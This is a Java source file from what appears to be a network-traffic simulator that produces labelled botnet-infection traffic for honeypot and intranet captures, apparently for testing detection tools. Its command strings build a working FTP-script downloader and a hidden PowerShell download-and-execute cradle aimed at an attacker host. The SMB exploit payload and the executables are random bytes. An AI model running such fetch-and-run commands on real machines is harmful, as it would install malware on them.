package org.hyakuyobako.simulate;

import java.util.SplittableRandom;
import org.hyakuyobako.decode.IpAddresses;

/**
 * How a bot got its bot, minutes before it first reaches its C&C (seed 000's honeypots; D6 and the
 * life cycle of D9). On a honeypot an attacker exploits SMB, then either types into a bind shell a
 * script that has the honeypot fetch the bot by FTP from the attacker ("echo open A > o & … & ftp
 * -s:o"), or a PowerShell cradle that fetches it by HTTP from a mirror the command names, or pushes
 * the executable itself over a raw connection. On an intranet a user's browser fetches the bot from
 * a web server (a drive-by), and the bot starts. Each kind is one story in the ground truth.
 *
 * <p>Draws from its own random source (see {@link #randomFor}), so that adding stories leaves the
 * rest of a seed's traffic as it was.
 */
final class InfectionStory {
    enum Kind { FTP_SCRIPT, HTTP_CRADLE, RAW_PUSH, DRIVE_BY }

    /** The story ends this long before the bot joins at the latest, and takes about a minute. */
    static final double MIN_LEAD_S = 20;
    static final double MAX_LEAD_S = 150;
    /** A story needs this much capture before the join; bots that join sooner were infected before it began. */
    static final double NEEDS_S = 45;
    private static final int SMB = 445;
    private static final byte[] SMB_HEAD = {0, 0, 0x10, 0, (byte) 0xFF, 'S', 'M', 'B', 0x72};
    private static final String[] BOT_FILES = {"ssms.exe", "winupd.exe", "msnet32.exe", "svchosts.exe", "lsass32.exe", "wmon.exe"};
    private static final String BANNER = "Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\n"
            + "C:\\WINDOWS\\system32>";

    private final World w;
    private final SplittableRandom r;

    private InfectionStory(World w, SplittableRandom r) {
        this.w = w;
        this.r = r;
    }

    /** A random source of the bot's own: the same seed gives the same story, and no other draw moves. */
    static SplittableRandom randomFor(World w, MonitoredHost bot, int cnc) {
        return new SplittableRandom(bot.address() * 0x9E3779B97F4A7C15L ^ (long) cnc << 21 ^ w.start);
    }

    /** Plays the story of {@code bot} before it joins at {@code joinAt}, when the capture leaves room for one. */
    static void before(World w, MonitoredHost bot, long joinAt, SplittableRandom r) {
        long earliest = w.start + Durations.seconds(5);
        if (joinAt - earliest < Durations.seconds(NEEDS_S)) {
            return;
        }
        long start = Math.max(earliest, joinAt - Draws.nanosBetween(r, MAX_LEAD_S / 2, MAX_LEAD_S));
        InfectionStory story = new InfectionStory(w, r);
        if (w.intranet()) {
            story.driveBy(bot, start);
            return;
        }
        double roll = r.nextDouble();
        Kind kind = roll < 0.35 ? Kind.FTP_SCRIPT : roll < 0.7 ? Kind.HTTP_CRADLE : Kind.RAW_PUSH;
        story.onHoneypot(bot, start, kind);
    }

    private void onHoneypot(MonitoredHost bot, long t0, Kind kind) {
        int attacker = w.book.fresh(r);
        String file = Draws.pick(r, java.util.List.of(BOT_FILES));
        long t = exploit(bot, attacker, t0);
        int source = attacker;
        switch (kind) {
            case FTP_SCRIPT -> {
                String a = IpAddresses.formatV4(attacker);
                t = shell(bot, attacker, t + Durations.seconds(Draws.between(r, 1.0, 4.0)),
                        "echo open " + a + " 21 > o&echo user " + Draws.between(r, 1, 99) + " " + Draws.between(r, 1, 99)
                                + " >> o&echo binary >> o&echo get " + file + " >> o&echo bye >> o&ftp -n -s:o&del o&" + file + "\r\n");
                ftp(bot, attacker, file, t + Durations.seconds(Draws.between(r, 0.5, 3.0)));
            }
            case HTTP_CRADLE -> {
                source = Draws.chance(r, 0.5) ? attacker : w.book.fresh(r);
                String url = "http://" + IpAddresses.formatV4(source) + "/" + file;
                t = shell(bot, attacker, t + Durations.seconds(Draws.between(r, 1.0, 4.0)),
                        "powershell -nop -w hidden -c \"(New-Object Net.WebClient).DownloadFile('" + url + "','%TEMP%\\" + file
                                + "');Start-Process %TEMP%\\" + file + "\"\r\n");
                http(bot, source, "/" + file, "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)",
                        t + Durations.seconds(Draws.between(r, 0.5, 3.0)));
            }
            default -> push(bot, attacker, t + Durations.seconds(Draws.between(r, 0.5, 3.0)));
        }
        w.truth.infections.add(new GroundTruth.Infection(bot.text(), IpAddresses.formatV4(attacker), IpAddresses.formatV4(source),
                kind.name().toLowerCase(java.util.Locale.ROOT)));
    }

    private void driveBy(MonitoredHost bot, long t0) {
        int server = w.book.fresh(r);
        String file = Draws.pick(r, java.util.List.of(BOT_FILES));
        http(bot, server, "/dl/" + Draws.between(r, 1000, 99999) + "/" + file,
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0 Safari/537.36", t0);
        w.truth.infections.add(new GroundTruth.Infection(bot.text(), null, IpAddresses.formatV4(server), "drive_by"));
    }

    /** The attacker's exploit of SMB: a payload in, a short answer out. */
    private long exploit(MonitoredHost bot, int attacker, long t) {
        Tcp tcp = new Tcp(w.sim, r, bot.sensor(), attacker, bot.address(), Draws.ephemeralPort(r), SMB, w.rtt(r, attacker));
        long at = tcp.open(t);
        at = tcp.clientStreams(at, Payloads.concat(SMB_HEAD, Draws.bytes(r, Draws.between(r, 800, 3_000))), Durations.MS / 4);
        at = tcp.serverSends(at + Durations.MS, Draws.bytes(r, Draws.between(r, 60, 300)));
        return tcp.close(at + tcp.rtt());
    }

    /** The bind shell the exploit opened: a prompt, the attacker's command, the prompt again. */
    private long shell(MonitoredHost bot, int attacker, long t, String command) {
        int port = Draws.chance(r, 0.5) ? 4444 : Draws.highPort(r);
        Tcp tcp = new Tcp(w.sim, r, bot.sensor(), attacker, bot.address(), Draws.ephemeralPort(r), port, w.rtt(r, attacker));
        long at = tcp.open(t);
        at = tcp.serverSends(at + Durations.MS * 20, Payloads.text(BANNER));
        at = tcp.clientSends(at + Durations.seconds(Draws.between(r, 0.5, 2.0)), Payloads.text(command));
        at = tcp.serverSends(at + Durations.MS * 50, Payloads.text("\r\nC:\\WINDOWS\\system32>"));
        return tcp.close(at + Durations.seconds(1));
    }

    /** The FTP script run: log in, passive mode, RETR; the file comes over the data connection. */
    private void ftp(MonitoredHost bot, int server, String file, long t) {
        Tcp control = new Tcp(w.sim, r, bot.sensor(), bot.address(), server, Draws.ephemeralPort(r), 21, w.rtt(r, server));
        long rtt = control.rtt();
        long at = control.open(t);
        at = control.serverSends(at + Durations.MS * 5, Payloads.text("220 Serv-U FTP Server ready\r\n"));
        at = control.clientSends(at + rtt, Payloads.text("USER 1\r\n"));
        at = control.serverSends(at + rtt, Payloads.text("331 User name okay, need password.\r\n"));
        at = control.clientSends(at + rtt, Payloads.text("PASS 1\r\n"));
        at = control.serverSends(at + rtt, Payloads.text("230 User logged in, proceed.\r\n"));
        at = control.clientSends(at + rtt, Payloads.text("TYPE I\r\n"));
        at = control.serverSends(at + rtt, Payloads.text("200 Type set to I.\r\n"));
        at = control.clientSends(at + rtt, Payloads.text("PASV\r\n"));
        int dataPort = Draws.highPort(r);
        at = control.serverSends(at + rtt, Payloads.text("227 Entering Passive Mode (" + IpAddresses.formatV4(server).replace('.', ',')
                + "," + (dataPort >> 8) + "," + (dataPort & 0xff) + ")\r\n"));
        at = control.clientSends(at + rtt, Payloads.text("RETR " + file + "\r\n"));
        Tcp data = new Tcp(w.sim, r, bot.sensor(), bot.address(), server, Draws.ephemeralPort(r), dataPort, rtt);
        long d = data.open(at);
        at = control.serverSends(d, Payloads.text("150 Opening BINARY mode data connection for " + file + ".\r\n"));
        d = data.serverStreams(d + rtt, peImage(Draws.between(r, 40_000, 200_000)), Durations.MS / 2);
        data.close(d + Durations.MS);
        at = control.serverSends(Math.max(at, d) + rtt, Payloads.text("226 Transfer complete.\r\n"));
        at = control.clientSends(at + rtt, Payloads.text("QUIT\r\n"));
        at = control.serverSends(at + rtt, Payloads.text("221 Goodbye!\r\n"));
        control.close(at + rtt);
    }

    /** An HTTP GET of the executable from {@code server}. */
    private void http(MonitoredHost bot, int server, String path, String agent, long t) {
        Tcp tcp = new Tcp(w.sim, r, bot.sensor(), bot.address(), server, Draws.ephemeralPort(r), 80, w.rtt(r, server));
        long at = tcp.open(t);
        at = tcp.clientSends(at, Payloads.text("GET " + path + " HTTP/1.1\r\nHost: " + IpAddresses.formatV4(server) + "\r\nUser-Agent: "
                + agent + "\r\nConnection: close\r\n\r\n"));
        byte[] body = peImage(Draws.between(r, 40_000, 200_000));
        byte[] head = Payloads.text("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: " + body.length + "\r\n\r\n");
        at = tcp.serverStreams(at + tcp.rtt(), Payloads.concat(head, body), Durations.MS / 2);
        tcp.close(at + Durations.MS);
    }

    /** The attacker pushes the executable through a connection of its own to a port the exploit opened. */
    private void push(MonitoredHost bot, int attacker, long t) {
        Tcp tcp = new Tcp(w.sim, r, bot.sensor(), attacker, bot.address(), Draws.ephemeralPort(r), Draws.highPort(r), w.rtt(r, attacker));
        long at = tcp.open(t);
        at = tcp.clientStreams(at, peImage(Draws.between(r, 40_000, 200_000)), Durations.MS / 2);
        tcp.close(at + Durations.MS);
    }

    /** A Windows executable's bytes: MZ header pointing at its PE header, the DOS stub's words, then code (random). */
    private byte[] peImage(int size) {
        byte[] b = Draws.bytes(r, Math.max(size, 1024));
        java.util.Arrays.fill(b, 2, 0x80, (byte) 0);
        b[0] = 'M';
        b[1] = 'Z';
        b[60] = (byte) 0x80;
        byte[] stub = Payloads.text("This program cannot be run in DOS mode.\r\r\n$");
        System.arraycopy(stub, 0, b, 0x4e, stub.length);
        b[0x80] = 'P';
        b[0x81] = 'E';
        b[0x82] = 0;
        b[0x83] = 0;
        return b;
    }
}
